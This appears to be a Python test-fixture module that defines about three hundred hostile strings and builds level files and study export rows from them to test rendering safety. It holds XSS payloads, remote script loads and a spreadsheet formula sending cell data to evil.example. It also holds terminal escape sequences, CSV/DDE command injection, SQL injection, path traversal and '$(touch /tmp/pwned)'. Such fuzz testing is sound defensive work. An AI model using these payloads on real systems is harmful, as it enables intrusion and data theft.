"""Three hundred texts that would do something if they were ever taken for anything but text.

In a browser they would call `alert` and set `window.pwned`; in a terminal they would move, colour, hide or rename; in
a spreadsheet they would be formulas; and some are merely odd. All are distinct.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from otherminds.files.text import printable

DEED = "window.pwned=1;alert(1)"
MARK = "pwned"
ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

ELEMENTS = (
    f"<script>{DEED}</script>",
    f"<SCRIPT>{DEED}</SCRIPT >",
    f"<script\n>{DEED}</script\n>",
    f"<script/x>{DEED}</script>",
    f"<scr<script>ipt>{DEED}</scr</script>ipt>",
    f"<script type=module>{DEED}</script>",
    f"<<script>{DEED}//<</script>",
    f"<script>/*<!--<script>*/{DEED}</script>",
    "<script src=//evil.example/pwned.js></script>",
    "<script src='https://evil.example/pwned.js' async>",
    "<link rel=stylesheet href=https://evil.example/pwned.css>",
    "<link rel=prefetch href=//evil.example/pwned>",
    "<base href=https://evil.example/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{DEED}">',
    "<meta http-equiv=refresh content='0;https://evil.example/'>",
    f"<iframe srcdoc='<script>parent.{DEED}</script>'></iframe>",
    f"<iframe src=javascript:parent.{DEED}>",
    "<object data=https://evil.example/pwned.svg></object>",
    "<embed src=https://evil.example/pwned.svg>",
    "<form action=https://evil.example/><input name=pwned><button>Go on</button></form>",
    "<style>body{display:none;background:url(https://evil.example/pwned)}</style>",
    f"<template><script>{DEED}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={DEED}>'>",
    "<plaintext>pwned",
)
EVENTS = tuple(
    f"<{tag} on{event}={quote}{DEED}{quote}>"
    for tag, event, quote in (
        ("img src=x", "error", ""),
        ("img src=x", "error", '"'),
        ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "load", "'"),
        ("IMG SRC=x", "ERROR", "`"),
        ("img/src=x/", "error", ""),
        ("img src=x\n", "error", "'"),
        ("body", "load", ""),
        ("body", "pageshow", '"'),
        ("input autofocus", "focus", ""),
        ("textarea autofocus", "focus", "'"),
        ("details open", "toggle", ""),
        ("video src=x", "error", ""),
        ("audio src=x", "error", '"'),
        ("video><source", "error", ""),
        ("marquee", "start", ""),
        ("div style='animation:x' ", "animationstart", ""),
        ("p tabindex=1 autofocus", "focus", '"'),
        ("a href=#", "mouseover", ""),
        ("select autofocus", "focus", ""),
        ("x contenteditable autofocus", "focus", ""),
    )
)
DRAWINGS = (
    f"<svg onload={DEED}>",
    f"<svg/onload='{DEED}'/>",
    f"<svg><script>{DEED}</script></svg>",
    f"<svg><script xlink:href=data:,{DEED}></script></svg>",
    f"<svg><a xlink:href='javascript:{DEED}'><text y=20>pwned</text></a></svg>",
    f"<svg><animate onbegin='{DEED}' attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={DEED}>",
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{DEED}'/></foreignObject></svg>",
    "<svg><image href=https://evil.example/pwned.png /></svg>",
    "<svg><use href='https://evil.example/pwned.svg#x'/></svg>",
    f"<g onclick='{DEED}'><rect width='9' height='9' onmouseover='{DEED}'/></g>",
    f"</g></svg><script>{DEED}</script>",
    "<text style='background:url(https://evil.example/pwned)'>pwned</text>",
    f"<math><mi href='javascript:{DEED}'>pwned</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DEED}></style></mglyph></table></mtext></math>",
    f"<math xlink:href=javascript:{DEED}>pwned</math>",
)
ADDRESSES = (
    f"javascript:{DEED}",
    f"JaVaScRiPt:{DEED}",
    f" javascript:{DEED}",
    f"java\tscript:{DEED}",
    f"java\nscript:{DEED}",
    f"\x01javascript:{DEED}",
    f"javascript&colon;{DEED}",
    f"javascript://https://survey.example/%0a{DEED}",
    f"data:text/html,<script>{DEED}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{DEED}",
    f"blob:https://evil.example/{MARK}",
    "file:///etc/passwd",
    "//evil.example/pwned",
    "\\\\evil.example\\pwned",
    "https:evil.example",
    f'https://survey.example/"onmouseover="{DEED}',
    f"https://survey.example/'><script>{DEED}</script>",
    f"https://survey.example/?to=javascript:{DEED}&code={{code}}",
    "https://survey.example@evil.example/{code}",
    "http://[::1",
    "https://survey.example/\u202egpj.exe",
)
CLOSERS = (
    '"',
    "'",
    '">',
    "'>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "-->",
    "--!>",
    "]]>",
    "*/",
    "</svg>",
    "</template>",
    "</iframe>",
)
BREAKOUTS = tuple(
    f"{closer}<img src=x onerror={DEED}>" if i % 2 else f"{closer}<script>{DEED}</script>"
    for i, closer in enumerate(CLOSERS)
) + tuple(f"{quote} autofocus onfocus={quote}{DEED}" for quote in ('"', "'", "`"))
PROGRAMS = (
    f"';{DEED};//",
    f'";{DEED};//',
    f"\\';{DEED};//",
    f'\\";{DEED};//',
    f"`+{DEED}+`",
    f"${{{DEED}}}",
    f"`${{{DEED}}}`",
    f"{{{{constructor.constructor('{DEED}')()}}}}",
    f"#{{{DEED}}}",
    f"<%= {DEED} %>",
    f"[[${{{DEED}}}]]",
    f"\u2028{DEED}",
    f"\u2029{DEED}//",
    f"</script><!--{DEED}",
    f"*/{DEED}/*",
    '{"__proto__": {"pwned": 1}}',
    '__proto__"]["pwned',
)
HIDDEN_MARKUP = (
    f"<!--<script>{DEED}</script>-->",
    f"<!--[if IE]><script>{DEED}</script><![endif]-->",
    f"<![CDATA[<script>{DEED}</script>]]>",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e '{MARK}'>]><x>&e;</x>",
    f"&lt;script&gt;{DEED}&lt;/script&gt;",
    f"&#60;script&#62;{DEED}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={DEED}&#x3e;",
    f"&amp;lt;script&amp;gt;{DEED}",
    f"%3Cscript%3E{DEED}%3C/script%3E",
    f"\\u003cscript\\u003e{DEED}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{DEED}",
    f"\uff1cscript\uff1e{DEED}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{DEED}+ADw-/script+AD4-",
    "&NewLine;&Tab;&nbsp;&notanentity;&",
)
C1 = (0x7F, 0x85, 0x8D, 0x90, 0x9B, 0x9C, 0x9D, 0x9F)
CONTROLS = tuple(f"before{chr(code)}<b>after {code}</b>" for code in (*range(0x20), *C1))
SEQUENCES = (
    f"{ESC}[31mred{ESC}[0m",
    f"{ESC}[2J{ESC}[Hwiped",
    f"{ESC}[1A{ESC}[2Koverwritten",
    f"{ESC}[8mhidden",
    f"{ESC}[?1049hanother screen",
    f"{ESC}[?25l",
    f"{ESC}]0;pwned{BEL}",
    f"{ESC}]2;pwned{ST}",
    f"{ESC}]8;;https://evil.example{ST}link{ESC}]8;;{ST}",
    f"{ESC}]52;c;cHduZWQ={BEL}",
    f"{ESC}Pq#0;2;0;0;0{ST}",
    f"{ESC}creset",
    f"{ESC}[6n",
    f"{ESC}[21t",
    f"{ESC}]1337;File=inline=1:cHduZWQ={BEL}",
    "\x9b31mred\x9b0m",
    "\x9d0;pwned\x9c",
    "\x90q#0\x9c",
    "good\rbad",
    "good\b\b\b\bbad",
    "one\r\ntwo\n\nthree",
    "line\nReport: /tmp/pwned.html",
)
INVISIBLE = (
    *(
        f"in{chr(code)}visible <i>{code:x}</i>"
        for code in (
            *(0xAD, 0x061C, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F),
            *(0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069),
            *(0x2028, 0x2029, 0x3164, 0xFEFF, 0xFFF9, 0xFFFE, 0xFFFF, 0xE0041),
        )
    ),
    "\ufeff=1+1",
    "\ufeff<b>mark</b>",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"pwned")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"pwned")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@IMPORTXML(CONCAT(1),1)",
    '","=1+1","',
    '"\r\n=1+1,"',
    "'=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "-1",
    "1e999",
    "TRUE",
    "null",
    "NaN",
    "[1, 2]",
)
MARKINGS = (
    "[red]pwned[/red]",
    "[bold red on white]pwned",
    "[/]",
    "[/bold]",
    "[link=https://evil.example]pwned[/link]",
    "[@click=app.quit]pwned[/]",
    "\\[red]pwned[/red]",
    ":pile_of_poo: :skull:",
    "[not a style at all [[",
    "$\\frac{1}{0}$",
    "$x_{",
    "\\input{/etc/passwd}",
)
FORMATS = (
    "{0.__class__.__mro__}",
    "{code}{code.__class__}",
    "{self.__init__.__globals__}",
    "{",
    "}{",
    "%s%s%n",
    "%(secret)s",
    "$policy ${style} $",
    "{{7*7}}",
)
INJECTIONS = (
    "'; drop table events; --",
    "' or '1'='1",
    '"; delete from events where 1=1; --',
    "1); attach database '/tmp/pwned' as p; --",
    "$.label",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/etc/passwd\x00.html",
    "$(touch /tmp/pwned)",
    "-o/tmp/pwned",
)
LONG = (
    "<b>" * 60,
    "a" * 200,
    f"{'x' * 150}<script>{DEED}</script>",
    "([{<" * 40,
    "\u0301" * 100 + "z\u0322" * 40,
    "\U0001f4a3" * 100,
)
HALVES = ("half \ud800", "\udfff half", "\udc00\ud800 <b>", "a\udcffb")
WRITINGS = (
    "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f flag",
    "\u05e9\u05dc\u05d5\u05dd <b>\u05e2\u05d5\u05dc\u05dd</b>",
    "\u0645\u0631\u062d\u0628\u0627 = -1",
    "\u202e<b>gnp.exe</b>\u202c",
    "\u0130\u0131\u00df\ufb03 folds",
    "\u0e01\u0e34\u0e34\u0e34\u0e34",
    "\u200e\u200fpwned",
    "\u00e9 or e\u0301",
)
KINDS = {
    "elements": ELEMENTS,
    "events": EVENTS,
    "drawings": DRAWINGS,
    "addresses": ADDRESSES,
    "breakouts": BREAKOUTS,
    "programs": PROGRAMS,
    "hidden": HIDDEN_MARKUP,
    "controls": CONTROLS,
    "sequences": SEQUENCES,
    "invisible": INVISIBLE,
    "formulas": FORMULAS,
    "markings": MARKINGS,
    "formats": FORMATS,
    "injections": INJECTIONS,
    "long": LONG,
    "halves": HALVES,
    "writings": WRITINGS,
}
PAYLOADS = tuple(text for kind in KINDS.values() for text in kind)
WHOLE = tuple(text for text in PAYLOADS if text not in HALVES)
"""Those that are Unicode text; halves of characters can only be escaped in JSON."""
LINES = tuple(text for text in WHOLE if "\n" not in text and "\0" not in text)
"""Those that can be a line of a text file."""


def shown(text: str) -> str:
    """A text as it may be seen: printable, with single spaces as pages have it, and without marks of an encoding."""
    return " ".join(printable(text.strip("\ufeff")).split())


def together(separator: str, longest: int, texts: Sequence[str] = WHOLE) -> list[str]:
    """All texts in as few as possible of at most this length."""
    found = [""]
    for text in texts:
        more = f"{found[-1]}{separator}{text}" if found[-1] else text
        found = [*found[:-1], more] if len(more) <= longest else [*found, text]
    return found


# Files that hold them


def kitchen(name: str = "plain", kind: str = "", agents: str = "Ana, Ben") -> str:
    """A level file of a kitchen."""
    claim = f"class: {kind}\n" if kind else ""
    return f"-/-t*\n     \n--p--\n\nSimpleTomato\n\n0 1\n4 1\n\nname: {name}\nagents: {agents}\n{claim}"


def map_(name: str = "plain", kind: str = "", agents: str = "Ana, Ben") -> str:
    """A level file of doors, keys and gems."""
    claim = f"class: {kind}\n" if kind else ""
    return f"name: {name}\nagents: {agents}\ngoals: red, blue\n{claim}\na1 .. gr\na2 .. gb\n"


def hostile_export(texts: Sequence[str] = WHOLE) -> list[dict[str, Any]]:
    """The rows of a study in which everybody and everything is called like this, and says this."""
    rows = _trial(0, "hatch", len(texts), episode="0")
    for text, row in zip(texts, rows[2::3], strict=True):
        row |= {"action": f"Ana: {text}", "words": text}
        rows[3 * row["t"]] |= {"posterior": {text: 1.0}, "predicted": text, "p_true": 0.5}
    for text, row in zip(texts, rows[5::6], strict=False):
        row |= {"action": "", "why": text, "prices": [{"message": text, "saves": 1.0, "changes": 0.5}]}
    for k, text in enumerate(texts, 1):
        ended = "finished" if k % 2 else text
        rows += _trial(k, text, 1, by={text: "person"}, comments={text: text}, ended=ended)
    for k, text in enumerate(together(" ", 200, texts[::2]), len(texts) + 1):
        rows += _trial(k, "hatch", 1, subject=text, ratings={text: {"helpful": 7, "clear": 1}})
    return rows


def _trial(pair: int, level: str, steps: int, *, subject: str = "protom", episode: str = "", **last: Any) -> list[Any]:
    base = {"schema": 1, "experiment": "study", "condition": "useful", "subject": subject, "seed": 1}
    base |= {"episode": episode or f"{pair} {level}"[:200], "pair": pair, "trial": 1, "level": level}
    rows: list[dict[str, Any]] = [
        {**base, "t": t, "agent": agent, "action": "" if agent == "facilitator" else "stay"}
        for t in range(steps)
        for agent in ("Ana", "Ben", "facilitator")
    ]
    for row in rows[2::3]:
        row["ms"] = 1.0
    rows[-1] |= {"success": True, "length": steps, "ended": "finished", **last}
    return rows
